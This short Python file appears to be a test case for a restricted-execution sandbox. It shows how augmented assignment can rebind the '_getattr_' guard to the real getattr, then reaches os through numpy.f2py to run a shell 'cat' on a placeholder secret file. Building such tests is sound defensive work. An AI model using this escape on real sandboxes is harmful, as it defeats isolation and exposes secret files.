"""`|=` and its kin bind, too."""
import numpy as np
module = [np][0]
class Ready:
    def __or__(self, other):
        return other
_getattr_ = Ready()
_getattr_ |= getattr
print(module.f2py.os.popen("cat @SECRET_FILE@").read())
